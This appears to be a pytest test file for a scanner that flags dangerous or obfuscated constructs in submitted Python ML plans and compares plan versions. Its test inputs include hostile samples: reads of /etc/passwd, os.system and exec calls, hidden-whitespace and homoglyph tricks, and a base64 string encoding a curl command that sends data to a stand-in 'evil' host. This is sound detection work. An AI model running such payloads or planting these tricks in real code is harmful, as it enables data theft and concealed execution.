"""What a reader is told of a plan: findings with their line, and differences side by side."""

import pytest

from consilia.node import source
from consilia.node.findings import MAX_FINDINGS, Finding, findings
from consilia.wire.v1 import Plan


def read(text: str, **files: str) -> tuple[Finding, ...]:
    return findings(Plan("p", {"plan.py": text, **files}, "plan:P"))


def test_findings_say_where_of_what_kind_and_why() -> None:
    text = (
        "import os, numpy as np\nfrom subprocess import run\n\ndef train():\n"
        "    open('/etc/passwd')\n    eval('1')\n    x.__class__\n    np.load('a')\n"
    )
    plan = Plan("p", {"plan.py": text, "bad.py": "def (", "data.csv": "1"}, "plan:P")
    assert [str(f) for f in findings(plan)] == [
        "bad.py:1: danger, source: cannot be read as Python: SyntaxError",
        "data.csv:1: caution, source: is not Python source; see how the plan uses it",
        "plan.py:1: note, import: imports numpy",
        "plan.py:1: danger, process: imports os: it reaches files, environment and processes",
        "plan.py:2: danger, process: imports subprocess: it starts or steers programs, "
        "processes or threads",
        "plan.py:5: danger, file: calls open: opens a file",
        "plan.py:6: danger, reflection: calls eval: runs text as code",
        "plan.py:7: danger, reflection: uses __class__, which reaches behind an object",
        "plan.py:8: caution, file: uses .load: may read or write a file",
    ]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("import urllib.request as u", "network"),
        ("from torch.hub import load_state_dict_from_url as f", "network"),
        ("torch.hub.load_state_dict_from_url(u)", "network"),
        ("from os import fork as spoon", "process"),
        ("(lambda: os.system)()", "process"),
        ("f = eval", "obfuscation"),
        ("map(exec, texts)", "obfuscation"),
        ("getattr(a, 'x' + 'y')", "reflection"),
        ("[].__class__.__base__", "reflection"),
        ("__builtins__['ev' + 'al']", "reflection"),
        ("np.ctypeslib.as_array(p)", "reflection"),
        ("import pickle", "reflection"),
        ("bytes.fromhex(s)", "obfuscation"),
        ("import base64", "obfuscation"),
        ("x = 'aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwczovL2V2aWwvIi1kQC9kYXRhKTtfX2ltcG9y'"
         "'dF9fKCJzb2NrZXQiKQ0KZGVmIGYoeCk6cmV0dXJuIHg='", "obfuscation"),
        ("x = 1  # \u202e harmless", "obfuscation"),
        ("\u0430rgs = 1", "obfuscation"),  # a Cyrillic a
        ("x = 1" + " " * 260 + "; steal()", "obfuscation"),
    ],
)  # fmt: skip
def test_tricks_are_shown(line: str, kind: str) -> None:
    found = [f for f in read(f"pass\n{line}\n") if f.kind == kind]
    assert found and all(f.line == 2 for f in found), read(f"pass\n{line}\n")
    assert all(f.severity != "note" for f in found)


def test_a_plan_that_only_computes_has_notes_at_most() -> None:
    text = (
        "import torch\nfrom torch import nn\nfrom consilia.plans.torch import torch_plan\n"
        "from . import layers\nimport tools.losses\n\nclass Net(nn.Module):\n"
        "    def __init__(self):\n        super().__init__()\n"
        "    def forward(self, x):\n        return x.relu().sum()\n"
    )
    found = read(text, **{"layers.py": "", "tools/losses.py": ""})
    assert {f.severity for f in found} == {"note"}
    assert [f.what for f in found if "layers" in f.what or "tools" in f.what] == []


def test_endless_findings_are_cut_and_said_to_be() -> None:
    found = read("eval(1)\n" * (MAX_FINDINGS + 5))
    assert len(found) == MAX_FINDINGS + 1 and "of which the first" in found[-1].what


OLD = Plan("p", {"plan.py": "a\nb\nc\n", "gone.py": "x\n", "same.py": "1\n"}, "plan:P")
NEW = Plan("p", {"plan.py": "a\nB\nc\nd\n", "tools/new.py": "y\n", "same.py": "1\n"}, "plan:P")


def test_every_file_of_a_package_is_compared() -> None:
    found = {d.path: d for d in source.file_diffs(OLD, NEW)}
    assert {p: d.change for p, d in found.items()} == {
        "(entry)": "same",
        "(requirements)": "same",
        "gone.py": "removed",
        "plan.py": "changed",
        "same.py": "same",
        "tools/new.py": "added",
    }
    rows = [
        (r.change, r.old_number, r.old, r.new_number, r.new) for r in found["plan.py"].lines
    ]
    assert rows == [
        ("same", 1, "a", 1, "a"),
        ("changed", 2, "b", 2, "B"),
        ("same", 3, "c", 3, "c"),
        ("added", 0, "", 4, "d"),
    ]
    assert "-b\n+B" in found["plan.py"].unified
    assert {d.change for d in source.file_diffs(OLD, OLD)} == {"same"}


@pytest.mark.parametrize(("old", "new"), [("a\r\n", "a\n"), ("a", "a\n")])
def test_a_difference_that_shows_no_line_is_said(old: str, new: str) -> None:
    a, b = (Plan("p", {"plan.py": text}, "plan:P") for text in (old, new))
    (found,) = (d for d in source.file_diffs(a, b) if d.change == "changed")
    assert "only the ends of lines differ" in found.unified


def test_a_huge_file_is_shown_as_replaced_and_at_once() -> None:
    a, b = (Plan("p", {"plan.py": f"{c}\n" * 100_000}, "plan:P") for c in "xy")
    (diff,) = (d for d in source.file_diffs(a, b) if d.change == "changed")
    assert len(diff.lines) == 100_000 and diff.unified.count("\n") == 200_001
